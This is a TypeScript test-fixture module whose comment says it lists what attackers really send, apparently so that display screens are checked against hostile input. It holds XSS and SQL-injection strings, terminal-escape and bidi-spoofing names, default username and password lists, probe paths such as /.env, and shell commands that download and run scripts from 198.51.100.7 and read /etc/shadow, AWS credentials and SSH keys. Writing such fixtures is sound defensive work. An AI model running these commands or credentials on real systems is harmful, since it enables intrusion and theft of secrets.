/** What attackers really send, so that the screens are looked at with it. */
export const hostileNames: readonly string[] = [
  '<script>alert(document.domain)</script>',
  `admin\u202e\u2066nimda\u2069`,
  'مدير‏',
  'root\u0000\u0001admin',
  `${'A'.repeat(1024)}`,
  "' OR 1=1; DROP TABLE users; --",
  '\u001b]0;owned\u0007\u001b[2J\u001b[31mroot',
  '管理员',
  'Ł̷̡o̵r̶d̸'.repeat(3),
  '',
]
export const hostileCommands: readonly string[] = [
  'echo -e "\\x1b[31mred\\x1b[0m"; printf "\\033]0;pwned\\007"',
  `\u001b[2J\u001b[1;1Hecho hidden\u0007`,
  `cat /etc/passwd\u202e gpj.yrteop`,
  `wget http://198.51.100.7/${'x'.repeat(600)}.sh -O- | sh`,
  '<img src=x onerror=alert(1)>',
]
export const passwords = ['123456', 'admin', 'password', 'root', '12345678', 'qwerty', 'P@ssw0rd', '1q2w3e4r', 'toor', 'raspberry', 'ubuntu', 'Passw0rd!', 'changeme', 'letmein', '000000', 'support', 'test', 'K3strel!2024', 'hunter2', 'vizxv']
export const users = ['root', 'admin', 'ubuntu', 'test', 'oracle', 'postgres', 'pi', 'user', 'git', 'ftp', 'www-data', 'support', 'guest', 'mysql']
export const commands = ['uname -a', 'id', 'cat /proc/cpuinfo | grep name | wc -l', 'free -m', 'w', 'cd /dev/shm || cd /tmp', 'crontab -l', 'ls -la /root/.ssh', 'cat /etc/shadow | head -3', 'history -c', 'ps aux | grep -i xmrig', 'curl -fsSL http://198.51.100.7/k.sh -o .k; sh .k', 'chmod 777 .k', 'df -h', 'ip a', 'cat ~/.aws/credentials', 'find / -name "*.pem" 2>/dev/null']
export const paths = ['/.env', '/.git/config', '/wp-login.php', '/admin/', '/phpmyadmin/index.php', '/actuator/health', '/cgi-bin/luci/;stok=/locale', '/boaform/admin/formLogin', '/api/v1/pods', '/server-status', '/index.html', '/robots.txt']
